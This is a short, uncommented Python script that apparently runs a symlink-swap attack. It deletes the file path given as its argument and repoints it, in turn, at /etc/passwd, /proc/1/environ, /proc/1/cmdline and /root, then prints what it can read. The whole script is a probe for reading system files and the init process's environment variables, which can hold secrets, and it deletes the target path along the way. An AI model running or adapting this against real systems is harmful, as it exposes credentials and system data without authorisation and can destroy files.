import os
import sys

for target in ("/etc/passwd", "/proc/1/environ", "/proc/1/cmdline", "/root"):
    try:
        os.remove(sys.argv[1])
    except OSError:
        pass
    try:
        os.symlink(target, sys.argv[1])
        with open(sys.argv[1]) as file:
            print(file.read(300))
    except OSError as problem:
        print(problem)
